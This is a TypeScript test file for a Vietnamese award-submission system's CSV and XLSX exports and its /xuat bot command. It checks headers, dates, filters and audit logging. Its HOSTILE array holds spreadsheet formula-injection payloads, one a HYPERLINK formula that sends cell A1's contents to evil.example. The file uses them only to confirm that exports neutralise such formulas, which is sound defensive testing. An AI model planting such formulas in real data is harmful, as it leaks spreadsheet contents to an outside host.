import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { accountTag } from "../../src/domain/actor-name.js";
import { describe, expect, it } from "vitest";
import { buildExport } from "../../src/flows/officials/export.js";
import { toPlainText } from "../../src/core/markup.js";
import { neutraliseCsvCell } from "../../src/services/export.js";
import { testApp } from "../helpers/app.js";
import { auditTrail } from "../helpers/audit-trail.js";
import { draft } from "../helpers/submission-draft.js";
import { person, testClock } from "../helpers/talk.js";
import { useTempDirs } from "../helpers/temp-dir.js";

const tempDir = useTempDirs();

/** Names a spreadsheet would run as formulas if written as they are. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84 Công ty", "-1+1", "@SUM(1,2)", "\tCông ty Tab", "\rCông ty CR"];

async function store() {
  const clock = testClock("2026-11-22T03:00:00Z");
  const app = await testApp(await tempDir(), { clock: clock.now, env: { OFFICIAL_TELEGRAM_IDS: "777" } });
  const { submissions } = app.services;
  const create = async (o: Parameters<typeof draft>[0], at = clock.now()) => {
    const made = await app.storage.unit(() => submissions.create(draft(o), at));
    if (!made.ok) throw new Error("duplicate");
    return made.submission.code;
  };
  const a = await create({ name: "Công ty TNHH Sản xuất Gốm sứ Đồng Nai", taxCode: "0314409058" });
  const b = await create({ name: "Hợp tác xã Chè Hảo Đạt", taxCode: "0100233488", programme: "nscl", userKey: "telegram:1002" });
  for (const [i, name] of HOSTILE.entries()) await create({ name, taxCode: String(3_600_000_000 + i), userKey: `telegram:${3000 + i}` });
  const official = { userKey: "telegram:777", role: "admin" as const };
  const moved = await app.storage.unit(() => app.services.workflow.move(a, "dossier-received", official, new Date("2026-11-22T08:15:00Z"), "Đã nhận bản giấy, đủ 8 thành phần"));
  if (!moved.ok) throw new Error("not moved");
  return { app, a, b, clock };
}

const label = (app: Awaited<ReturnType<typeof store>>["app"]) => (key: string) => toPlainText(app.translator.t("vi", key));

describe("exports for the council", () => {
  it("writes an XLSX that exceljs reads back: Vietnamese headers and text, real dates, numbers, the history sheet", async () => {
    const { app } = await store();
    const file = await buildExport(app.services, label(app), "vi", { programme: "gtclqg", year: 2026 }, "xlsx", new Date(), "Sở KH&CN Đồng Nai");
    expect(file.name).toBe("ho-so-gtclqg-2026.xlsx");
    expect(file.rows).toBe(7);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(file.bytes) as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Hồ sơ", "Lịch sử xử lý"]);
    const sheet = wb.getWorksheet("Hồ sơ")!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(headers.slice(0, 8)).toEqual(["Mã hồ sơ", "Chương trình", "Năm giải thưởng", "Tình trạng", "Ngày cập nhật tình trạng", "Ngày đăng ký", "Tên tổ chức", "Mã số thuế"]);
    expect(headers).toContain("Xã/phường");
    expect(headers).toContain("Quy mô (NĐ 80/2021)");
    const col = (name: string) => headers.indexOf(name) + 1;
    expect(sheet.rowCount).toBe(8);

    const row = sheet.getRow(2);
    expect(row.getCell(col("Mã hồ sơ")).value).toBe("GT-2026-0001");
    expect(row.getCell(col("Chương trình")).value).toBe("Giải thưởng Chất lượng Quốc gia");
    expect(row.getCell(col("Năm giải thưởng")).value).toBe(2026);
    expect(row.getCell(col("Tình trạng")).value).toBe("Đã nhận hồ sơ");
    expect(row.getCell(col("Tên tổ chức")).value).toBe("Công ty TNHH Sản xuất Gốm sứ Đồng Nai");
    // The tax code keeps its leading zero: text, not a number.
    expect(row.getCell(col("Mã số thuế")).value).toBe("0314409058");
    expect(row.getCell(col("Xã/phường")).value).toBe("Phường Trấn Biên");
    expect(row.getCell(col("Nhóm ngành")).value).toBe("Sản xuất");
    expect(row.getCell(col("Quy mô (NĐ 80/2021)")).value).toBe("doanh nghiệp nhỏ");
    expect(row.getCell(col("Người liên hệ")).value).toBe("Nguyễn Thị Lan");
    expect(row.getCell(col("Điện thoại")).value).toBe("0912 345 678");
    expect(row.getCell(col("Doanh thu (đồng)")).value).toBe(1_500_000_000);
    expect(row.getCell(col("Quy định áp dụng")).value).toBe("Luật 78/2025, NĐ 37/2026");
    // Dates are dates: the wall-clock time in Vietnam (15:15 there at 08:15 UTC), with a date format.
    const since = row.getCell(col("Ngày cập nhật tình trạng"));
    expect(since.value).toBeInstanceOf(Date);
    expect((since.value as Date).toISOString()).toBe("2026-11-22T15:15:00.000Z");
    expect(since.numFmt).toBe("dd/mm/yyyy hh:mm");
    const founded = row.getCell(col("Ngày thành lập"));
    expect((founded.value as Date).toISOString()).toBe("2019-03-15T00:00:00.000Z");
    expect(founded.numFmt).toBe("dd/mm/yyyy");
    // A hostile name is a plain string in XLSX: a cell value, never a formula.
    const names = Array.from({ length: 7 }, (_, i) => sheet.getRow(i + 2).getCell(col("Tên tổ chức")));
    expect(names.map((c) => c.type)).toEqual(Array(7).fill(ExcelJS.ValueType.String));
    // (XML turns a carriage return into a line feed when read; the letters are all there.)
    expect(names.slice(1).map((c) => c.value)).toEqual(HOSTILE.map((h) => h.replace(/\r/g, "\n")));

    const history = wb.getWorksheet("Lịch sử xử lý")!;
    expect((history.getRow(1).values as unknown[]).slice(1)).toEqual(["Thời điểm", "Mã hồ sơ", "Việc", "Từ tình trạng", "Sang tình trạng", "Người thực hiện", "Vai trò", "Ghi chú", "Chi tiết"]);
    const moved = history.getRows(2, history.rowCount - 1)!.find((r) => r.getCell(3).value === "Chuyển tình trạng")!;
    expect((moved.values as unknown[]).slice(2, 9)).toEqual(["GT-2026-0001", "Chuyển tình trạng", "Đã đăng ký", "Đã nhận hồ sơ", `quản trị #${accountTag("telegram:777")}`, "quản trị", "Đã nhận bản giấy, đủ 8 thành phần"]);
    // No account id in the file: an official who never gave a name reads as a tag.
    expect(history.getRows(2, history.rowCount - 1)!.some((r) => /telegram:|zalo:|web:/.test(String(r.getCell(6).value)))).toBe(false);
    expect((moved.getCell(1).value as Date).toISOString()).toBe("2026-11-22T15:15:00.000Z");
    // Only the exported submissions' history: the NSCL one is not in this file.
    expect(history.getRows(2, history.rowCount - 1)!.every((r) => String(r.getCell(2).value).startsWith("GT-"))).toBe(true);
    await app.close();
  });

  it("writes a CSV with a byte-order mark that parses back cell by cell, formulas neutralised", async () => {
    const { app } = await store();
    const file = await buildExport(app.services, label(app), "vi", {}, "csv", new Date(), "Sở");
    expect(file.name).toBe("ho-so-tat-ca-moi-nam.csv");
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: false }).decode(file.bytes);
    const rows = parse(text, { bom: true, relax_column_count: false }) as string[][];
    const [headers, ...data] = rows;
    expect(headers!.slice(0, 7)).toEqual(["Mã hồ sơ", "Chương trình", "Năm giải thưởng", "Tình trạng", "Ngày cập nhật tình trạng", "Ngày đăng ký", "Tên tổ chức"]);
    expect(data).toHaveLength(8);
    const col = (name: string) => headers!.indexOf(name);
    const byCode = new Map(data.map((r) => [r[0], r]));
    const gt = byCode.get("GT-2026-0001")!;
    expect(gt[col("Tên tổ chức")]).toBe("Công ty TNHH Sản xuất Gốm sứ Đồng Nai");
    expect(gt[col("Tình trạng")]).toBe("Đã nhận hồ sơ");
    expect(gt[col("Ngày cập nhật tình trạng")]).toBe("2026-11-22 15:15");
    expect(gt[col("Ngày thành lập")]).toBe("2019-03-15");
    expect(gt[col("Mã số thuế")]).toBe("0314409058");
    expect(gt[col("Doanh thu (đồng)")]).toBe("1500000000");
    const ns = byCode.get("NS-2026-0001")!;
    expect(ns[col("Tên tổ chức")]).toBe("Hợp tác xã Chè Hảo Đạt");
    expect(ns[col("Chương trình")]).toBe("Chương trình nâng cao năng suất và chất lượng");
    expect(ns[col("Nhu cầu")]).toBe("Áp dụng ISO 9001 cho xưởng");
    expect(ns[col("Sản phẩm tham dự")]).toBe("");

    const hostile = data.filter((r) => r[0]!.startsWith("GT-") && r[0] !== "GT-2026-0001").map((r) => r[col("Tên tổ chức")]);
    expect(hostile).toEqual(HOSTILE.map((h) => `'${h}`));
    for (const cell of data.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    await app.close();
  });

  it("neutralises exactly the cells a spreadsheet would run", () => {
    expect(HOSTILE.map(neutraliseCsvCell)).toEqual(HOSTILE.map((h) => `'${h}`));
    for (const safe of ["Công ty TNHH Minh An", "0912 345 678", "GT-2026-0001", "lan@minhan.vn", "'already quoted", ""]) expect(neutraliseCsvCell(safe)).toBe(safe);
  });

  it("filters by programme, status and year, and /xuat sends the file after asking with buttons", async () => {
    const { app, clock } = await store();
    await app.storage.unit(() => app.services.submissions.create(draft({ taxCode: "0312687878", awardYear: 2027, userKey: "telegram:1009" }), clock.now()));
    const hoa = person(app, "telegram", "777");
    expect(await hoa.says("/xuat")).toBe("Xuất danh sách hồ sơ của chương trình nào?");
    await hoa.presses("Giải thưởng Chất lượng Quốc gia");
    expect(hoa.buttonLabels()).toEqual(["2027", "2026", "Mọi năm"]);
    await hoa.presses("2026");
    await hoa.presses("Đã nhận hồ sơ");
    const sent = await hoa.presses("CSV");
    expect(sent).toContain("📥 Danh sách hồ sơ — Giải thưởng Chất lượng Quốc gia, năm 2026, tình trạng: Đã nhận hồ sơ: 1 hồ sơ (CSV, UTF-8).");
    const attachment = hoa.replies[0]!.attachment;
    expect(attachment?.kind === "bytes" && attachment.name).toBe("ho-so-gtclqg-2026-dossier-received.csv");
    const rows = parse(attachment?.kind === "bytes" ? Buffer.from(attachment.bytes) : "", { bom: true }) as string[][];
    expect(rows.slice(1).map((r) => r[0])).toEqual(["GT-2026-0001"]);

    // Typed, without diacritics, in any order.
    await hoa.says("/xuat csv 2026 gtclqg dang-xu-ly");
    expect(hoa.hears()).toContain("năm 2026, tình trạng: đang xử lý: 7 hồ sơ");
    await hoa.says("/export nscl can-bo-sung-ho-so");
    expect(hoa.hears()).toBe("“Cần bổ sung hồ sơ” không phải một tình trạng của Chương trình nâng cao năng suất và chất lượng.");
    await hoa.says("/xuat nscl xlsx");
    expect(hoa.hears()).toContain("Chương trình nâng cao năng suất và chất lượng, năm mọi năm, tình trạng: mọi tình trạng: 1 hồ sơ");
    expect(await hoa.says("/xuat gtclqg 2030")).toBe("Không có hồ sơ nào: Giải thưởng Chất lượng Quốc gia, năm 2030, tình trạng: mọi tình trạng.");
    expect(await hoa.sendsButtonData("xu:gtclqg:2026:award:pdf")).toContain("Nút này không còn hiệu lực");
    expect(await hoa.sendsButtonData("xu:gtclqg:20x6:all:csv")).toContain("Nút này không còn hiệu lực");

    // Who took which list, and when: personal data left the system.
    expect((await auditTrail(app)).filter((e) => e.action === "export").map((e) => [e.actor.userKey, e.subject, e.detail])).toEqual([
      ["telegram:777", "ho-so-gtclqg-2026-dossier-received.csv", "csv, 1 rows"],
      ["telegram:777", "ho-so-gtclqg-2026-dang-xu-ly.csv", "csv, 7 rows"],
      ["telegram:777", "ho-so-nscl-moi-nam.xlsx", "xlsx, 1 rows"],
    ]);
    await app.close();
  });
});
